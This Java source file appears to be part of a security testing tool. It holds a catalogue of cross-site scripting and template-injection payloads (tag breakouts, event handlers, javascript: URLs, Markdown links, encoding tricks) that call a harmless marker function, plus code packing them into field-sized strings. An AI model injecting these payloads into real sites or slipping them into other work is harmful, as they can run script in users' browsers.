package cn.anxue.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * Texts that become markup or script where a place forgets to encode. Every one that becomes an element carries the
 * attribute {@code data-xss}, every one that runs calls {@code __xss()}, every one that is evaluated shows
 * {@link #EVALUATED}.
 */
final class Payloads {

    /** What a template language makes of the templates below. */
    static final String EVALUATED = "1234001234";

    /** What has to end before markup begins: text, attributes, elements that hold text, comments. */
    private static final List<String> ENDS = List.of(
            "",
            "\">",
            "'>",
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "-->",
            "]]>",
            "</option></select>",
            "</p>");

    private static final List<String> ELEMENTS = List.of(
            "<img data-xss src=x onerror=__xss()>",
            "<svg data-xss onload=__xss()>",
            "<script data-xss>__xss()</script>",
            "<SCRIPT data-xss src=//x.invalid></SCRIPT>",
            "<details data-xss open ontoggle=__xss()>",
            "<input data-xss autofocus onfocus=__xss()>",
            "<body data-xss onload=__xss()>",
            "<iframe data-xss src=javascript:__xss()>",
            "<a data-xss href=javascript:__xss()>x</a>",
            "<object data-xss data=javascript:__xss()>",
            "<video data-xss><source onerror=__xss()>",
            "<style data-xss>*{display:none}</style>",
            "<base data-xss href=//x.invalid/>",
            "<form data-xss action=javascript:__xss()>",
            "<svg><animate data-xss onbegin=__xss()>",
            "<math><mi data-xss xlink:href=javascript:__xss()>");

    private static final List<String> ATTRIBUTES = List.of(
            "\" data-xss autofocus onfocus=__xss() x=\"",
            "' data-xss autofocus onfocus=__xss() x='",
            "\" data-xss onmouseover=\"__xss()",
            "' data-xss onmouseover='__xss()",
            " data-xss onerror=__xss() ",
            "x` data-xss onerror=`__xss()",
            "\" data-xss style=\"animation-name:x\" onanimationstart=__xss() \"");

    private static final List<String> ADDRESSES = List.of(
            "javascript:__xss()",
            "JaVaScRiPt:__xss()",
            "java\tscript:__xss()",
            "javascript://%0a__xss()",
            "vbscript:__xss()",
            "data:text/html,<script>__xss()</script>",
            "&#106;avascript:__xss()",
            "&#x6A;avascript&colon;__xss()",
            "[x](javascript:__xss())",
            "[x](JAVASCRIPT&colon;__xss())",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "![x](javascript:__xss())",
            "![x](x \"onerror=__xss()\")",
            "<javascript:__xss()>",
            "[x](<javascript:__xss()>)");

    private static final List<String> SCRIPTS = List.of(
            "';__xss();//",
            "\";__xss();//",
            "\\';__xss();//",
            "\\\";__xss();//",
            "`;__xss();`",
            "${__xss()}",
            "\u2028__xss()//",
            "</script><script data-xss>__xss()</script>");

    private static final List<String> TEMPLATES = List.of(
            "#{1234*1000001}",
            "${1234*1000001}",
            "{{1234*1000001}}",
            "<%=1234*1000001%>",
            "*{1234*1000001}",
            "[[${1234*1000001}]]");

    private static final List<String> ENCODED = List.of(
            "&lt;img data-xss src=x onerror=__xss()&gt;",
            "&#60;img data-xss src=x onerror=__xss()&#62;",
            "&amp;lt;img data-xss src=x onerror=__xss()&amp;gt;",
            "%3Cimg data-xss src=x onerror=__xss()%3E",
            "\\u003cimg data-xss src=x onerror=__xss()\\u003e",
            "\\x3cimg data-xss src=x onerror=__xss()\\x3e",
            "＜img data-xss src=x onerror=__xss()＞",
            "‹img data-xss src=x onerror=__xss()›",
            "<img\u00a0data-xss src=x onerror=__xss()>",
            "<img/data-xss/src=x/onerror=__xss()>",
            "<<img data-xss src=x onerror=__xss()>>",
            "<img data-xss src=x onerror=__xss() ",
            "\u202e<img data-xss src=x onerror=__xss()>");

    private static final List<String> ALL = Stream.of(
                    ENDS.stream().flatMap(end -> ELEMENTS.stream().map(element -> end + element)),
                    ATTRIBUTES.stream(),
                    ADDRESSES.stream(),
                    SCRIPTS.stream(),
                    TEMPLATES.stream(),
                    ENCODED.stream())
            .flatMap(each -> each)
            .toList();

    private Payloads() {}

    static List<String> all() {
        return ALL;
    }

    /** All of them, a few in each text, none longer than the field may be; what is longer than that is left out. */
    static List<String> fitting(int longest) {
        List<String> texts = new ArrayList<>();
        StringBuilder text = new StringBuilder();
        for (String payload : ALL) {
            if (payload.length() > longest) {
                continue;
            }
            if (text.length() + payload.length() + 1 > longest) {
                texts.add(text.toString());
                text.setLength(0);
            }
            text.append(text.isEmpty() ? "" : " ").append(payload);
        }
        texts.add(text.toString());
        return texts.stream().map(String::strip).collect(Collectors.toList());
    }

    /** The n-th such text, from the beginning again after the last. */
    static String text(int longest, int n) {
        List<String> texts = fitting(longest);
        return texts.get(n % texts.size());
    }
}
